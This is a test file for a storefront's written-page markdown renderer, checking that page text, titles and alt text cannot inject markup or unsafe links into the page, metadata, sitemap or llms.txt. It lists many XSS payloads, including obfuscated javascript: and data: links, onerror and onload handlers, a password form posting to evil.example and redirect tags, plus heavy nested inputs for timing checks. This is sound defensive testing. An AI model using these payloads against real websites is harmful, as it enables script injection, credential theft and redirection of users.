import { load, type CheerioAPI } from 'cheerio';
import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, expect, it, vi } from 'vitest';
import { generateMetadata, default as Page } from '@/app/(shop)/pages/[name]/page';
import { WRITTEN_PAGE_MAX } from '@/lib/contract/limits';
import { writtenPage } from '@/lib/contract/written-page';
import { sitemapEntries } from '@/lib/storefront/seo/sitemap-entries';
import { sitemapXml } from '@/lib/storefront/seo/sitemap-xml';
import { llmsText } from '@/lib/storefront/seo/llms-text';
import { writtenMarkdown } from '@/lib/storefront/seo/written-markdown';
import { productsById } from '@/lib/storefront/snapshot/products-by-id';
import { buildCatalogue } from '@/lib/storefront/snapshot/build-catalogue';
import type { HeldCatalogue } from '@/lib/storefront/snapshot/catalogue-shape';
import { readPageText } from '@/lib/storefront/pages/read-page-text';
import { allOf } from '@/testing/all-of';
import { inVisit } from '@/testing/in-visit';
import { makeProduct } from '@/testing/make-product';
import { openTestShop } from '@/testing/make-shop';

vi.mock('next/navigation', async (real) => ({
  ...(await real<object>()),
  useRouter: () => ({}),
  usePathname: () => '/',
}));

const SITE = 'http://localhost:3000';
const PHOTO = `/photos/${'0'.repeat(32)}.webp`;

/** Everything that a text may be drawn as, with what each may say of itself. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'h1 h2 h3 p strong em del ul li blockquote code br hr table thead tbody tr td main article section div'
      .split(' ')
      .map((tag) => [tag, []]),
  ),
  ol: ['start'],
  th: ['scope'],
  pre: ['tabindex'],
  a: ['href', 'rel'],
  img: ['src', 'srcset', 'sizes', 'alt', 'width', 'height', 'loading', 'decoding', 'fetchpriority'],
  span: ['style', 'data-picture', 'aria-hidden'],
};
const OF_ANY = ['class', 'id', 'aria-label', 'aria-labelledby', 'role', 'tabindex', 'data-words'];

const HARMLESS = /^(\/(?!\/)|https:\/\/|mailto:[^\s]+@|tel:\+?[\d().-]+$)/;

/** What is in the markup and may not be. */
function foreignIn($: CheerioAPI): string[] {
  return $('main *')
    .toArray()
    .flatMap((element) => {
      if (element.type !== 'tag') return [element.type];
      if ($(element).is('li article, li article *')) return [];
      const allowed = ALLOWED[element.name];
      if (!allowed) return [`<${element.name}>`];
      return Object.entries(element.attribs).flatMap(([name, value]) => {
        if (!allowed.includes(name) && !OF_ANY.includes(name)) return [`${element.name} ${name}`];
        if (name === 'href' && !HARMLESS.test(value)) return [`href ${value}`];
        if (name === 'href' && value.startsWith('https:') && element.attribs['rel'] !== 'noopener nofollow')
          return [`rel of ${value}`];
        if (name === 'src' && !value.startsWith('/_next/image?url=')) return [`src ${value}`];
        return name === 'style' && !/^aspect-ratio:\d+ \/ \d+$/.test(value) ? [`style ${value}`] : [];
      });
    });
}

const silk = makeProduct('Silk', { _id: 'silk"onload="x', image: [] });

function catalogueWith(fields: object): HeldCatalogue {
  const page = writtenPage.parse({
    name: 'onam',
    title: 'Onam',
    text: 'Words.',
    publishedAt: '2026-09-01T00:00:00.000Z',
    changedAt: '2026-09-02T00:00:00.000Z',
    ...fields,
  });
  return buildCatalogue(
    {
      list: { products: [silk], digest: 'd' },
      carousel: { kind: 'none' },
      fees: {},
      written: { digest: 'w', data: { success: true, pages: [page] } },
    },
    'v',
  );
}

const drawn = (fields: object) =>
  inVisit('/pages/onam', catalogueWith(fields), () => ({
    $: load(renderToStaticMarkup(<Page />)),
    head: JSON.stringify(generateMetadata()),
  }));

beforeAll(() => void openTestShop());

const SCRIPT = 'alert(1)';
const TEXTS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${SCRIPT}>`,
  `<svg onload=${SCRIPT}>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="data:x">x</mi></math>`,
  `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`,
  `<object data="data:text/html,x"></object><embed src="data:x">`,
  `<form action="https://evil.example"><input name="password"><button>Pay</button></form>`,
  `<style>*{display:none}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<a href="javascript:${SCRIPT}" onclick="${SCRIPT}">x</a>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<template><script>${SCRIPT}</script></template>`,
  `<!-- --><script>${SCRIPT}</script><!-- -->`,
  `<![CDATA[<script>${SCRIPT}</script>]]>`,
  `<?php echo 1 ?>`,
  `</main></body><script>${SCRIPT}</script>`,
  `[x](javascript:${SCRIPT})`,
  `[x](JaVaScRiPt:${SCRIPT})`,
  `[x]( javascript:${SCRIPT} )`,
  `[x](<javascript:${SCRIPT}>)`,
  `[x](&#106;avascript:${SCRIPT})`,
  `[x](&#x6A;&#x61;vascript&colon;${SCRIPT})`,
  `[x](java&Tab;script:${SCRIPT})`,
  `[x](java&NewLine;script:${SCRIPT})`,
  `[x](java%0ascript:${SCRIPT})`,
  `[x](\u0001javascript:${SCRIPT})`,
  `[x](\\javascript:${SCRIPT})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://evil.example/1)`,
  `[x](http://evil.example)`,
  `[x](//evil.example)`,
  `[x](/\\evil.example)`,
  `[x](/%09/evil.example)`,
  `[x](/..//evil.example)`,
  `[x](\\\\evil.example)`,
  `[x](https://user:password@evil.example)`,
  `[x](https://evil.example "t" onmouseover="${SCRIPT}")`,
  `[x](mailto:a@b.in?bcc=evil@evil.example&body=x)`,
  `[x](mailto:a@b.in,evil@evil.example)`,
  `[x](tel:1;phone-context=javascript)`,
  `[x](?next=//evil.example)`,
  `[x](#"onclick="${SCRIPT})`,
  `<javascript:${SCRIPT}>`,
  `<data:text/html,x>`,
  `https://evil.example and www.evil.example`,
  `[x][1]\n\n[1]: javascript:${SCRIPT}`,
  `[x][1]\n\n[1]: <data:text/html,x> "onload=${SCRIPT}"`,
  `![x](javascript:${SCRIPT})`,
  `![x](data:image/svg+xml,<svg/onload=${SCRIPT}>)`,
  `![x](https://evil.example/pixel.gif)`,
  `![x](//evil.example/pixel.gif)`,
  `![x](/api/user/logout)`,
  `![x](/photos/../api/user/logout)`,
  `![" onerror="${SCRIPT}](${PHOTO} "\\" onerror=\\"${SCRIPT}")`,
  `[![x](javascript:${SCRIPT})](javascript:${SCRIPT})`,
  `[[[x](javascript:1)](javascript:2)](javascript:3)`,
  `[a](/b "<script>${SCRIPT}</script>")`,
  '`<script>`\n\n    <script>\n\n```html" onload="x\n<script>\n```',
  `| <script> | [x](javascript:1) |\n|:--|--:|\n| <img src=x onerror=1> | \`<b>\` |`,
  `## <img src=x onerror=1> {#id onclick=x}`,
  `> <script>\n> - <script>\n>   1. <script>`,
  `/product/silk"onload="x`,
  `/product/silk%22onload%3D%22x`,
  `${SITE}/product/silk%22onload%3D%22x\n/product/<script>`,
  `\u202Egnp.exe\u202C \u2066x\u2069 \uD800`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `\\<script>${SCRIPT}\\</script>`,
  `*[x](javascript:1)*__**~~<b>~~**__`,
];

it.each(TEXTS)('[22.189] nothing foreign is drawn of %j', async (text) => {
  const { $, head } = await drawn({ text });
  expect(foreignIn($)).toEqual([]);
  expect($('main').find('script, style, svg, iframe, form, link, meta, base, object')).toHaveLength(0);
  expect($.root().text()).not.toMatch(/[\u202A-\u202E\u2066-\u2069\uD800-\uDFFF]/);
  expect(head).not.toMatch(/"(?:url|canonical)":"(?!\/)/);
});

it.each(TEXTS)('[22.189] nor is anything in the text for programs of %j', async (text) => {
  const { products, writtenPages } = catalogueWith({ text });
  const page = writtenPages.get('onam');
  if (!page) throw new Error('no page');
  const markdown = writtenMarkdown(page, { siteUrl: SITE, hosts: [], byId: productsById(products) });
  const { $ } = await drawn({ text: markdown });
  expect(foreignIn($)).toEqual([]);
  expect(markdown).not.toMatch(/(?<!\\)</);
  expect(markdown).not.toMatch(/(?<!\\)\]\((?!https?:|mailto:|tel:)/);
});

const HOSTILE = `"><script>${SCRIPT}</script><!--'&]]>\u202E`;

it('[22.189] title, description and picture words stay words in head, heading, structured data, feeds of addresses and llms.txt', async () => {
  const fields = {
    title: HOSTILE,
    description: HOSTILE,
    picture: PHOTO,
    pictureAlt: HOSTILE,
    products: [silk._id, HOSTILE],
  };
  const { $, head } = await drawn(fields);
  expect(foreignIn($)).toEqual([]);
  expect($('h1').text()).toContain('<script>');
  expect($('main img').first().attr('alt')).toContain('"><script>');
  expect(JSON.parse(head)).toMatchObject({ title: expect.objectContaining({}) });
  const catalogue = catalogueWith(fields);
  const entries = sitemapEntries('pages.xml', { ...catalogue }, SITE) ?? [];
  const xml = (await allOf(sitemapXml(entries))).join('');
  expect(xml).toContain('<loc>http://localhost:3000/pages/onam</loc><lastmod>2026-09-02T00:00:00.000Z</lastmod>');
  expect(xml).not.toContain('<script>');
  const llms = llmsText({ siteUrl: SITE, productCount: 1, ...catalogue });
  expect(llms).toContain('\\<script\\>');
  expect(llms).not.toMatch(/[^\\]<script/);
});

it('[22.189] no name of a page is anything but words in lower case', () => {
  const names = ['../x', 'a/b', 'A', 'a b', '<x>', 'x"', 'index', '', 'a--b', '-a', 'x'.repeat(61), '%2e'];
  const base = { title: 'x', publishedAt: '2026-09-01T00:00:00.000Z', changedAt: '2026-09-01T00:00:00.000Z' };
  expect(names.filter((name) => writtenPage.safeParse({ ...base, name }).success)).toEqual([]);
});

const LONG = 100_000;
const repeated = (unit: string) => unit.repeat(Math.ceil(LONG / unit.length)).slice(0, LONG);
const HEAVY: readonly string[] = [
  '[',
  ']',
  '![',
  '[a](',
  '[](',
  '[[]]',
  '*',
  '**a ',
  '*a **b ',
  '_',
  '`',
  '` `` ',
  '~',
  '> ',
  '>',
  '- ',
  '1. ',
  '  - a\n',
  '<',
  '<a ',
  '&',
  '&#',
  '\\',
  '#',
  '|',
  '|a',
  '|-|\n',
  'a\n|-\n',
  '[a]: b\n',
  '\n',
  '\t',
  '=\n',
  'a@',
  'http://',
  '\u0000',
  '![[]()',
  '<!--',
  '***a*** ',
  'x *y* ~~z~~ ',
  '> - ',
  `${PHOTO} `,
  '/product/silk\n',
];

it('[22.189] a text of 100,000 characters is cut and costs no more than a moment, however it nests', async () => {
  const slowest = { ms: 0, unit: '' };
  for (const unit of HEAVY) {
    const begun = performance.now();
    const blocks = readPageText(repeated(unit), { siteUrl: SITE, hosts: [] });
    const { $ } = await drawn({ text: repeated(unit).slice(0, WRITTEN_PAGE_MAX.text) });
    const ms = performance.now() - begun;
    expect(foreignIn($), unit).toEqual([]);
    expect(blocks.length).toBeLessThan(WRITTEN_PAGE_MAX.text);
    if (ms > slowest.ms) Object.assign(slowest, { ms, unit });
  }
  expect(slowest.ms, slowest.unit).toBeLessThan(5000);
});

it('[22.189] a table is filled up to the width of its head as far as a page bears it; a wider one is text', async () => {
  const table = (columns: number, rows: number) =>
    `|${'a|'.repeat(columns)}\n|${'-|'.repeat(columns)}\n${'|\n'.repeat(rows)}`;
  const cells = async (text: string) => (await drawn({ text })).$('main td').length;
  expect(await cells(table(6, 200))).toBe(1200);
  const begun = performance.now();
  for (const heavy of [table(1000, 1000), table(60, 9000)])
    expect(await cells(heavy.slice(0, WRITTEN_PAGE_MAX.text))).toBe(0);
  expect(performance.now() - begun).toBeLessThan(2000);
});
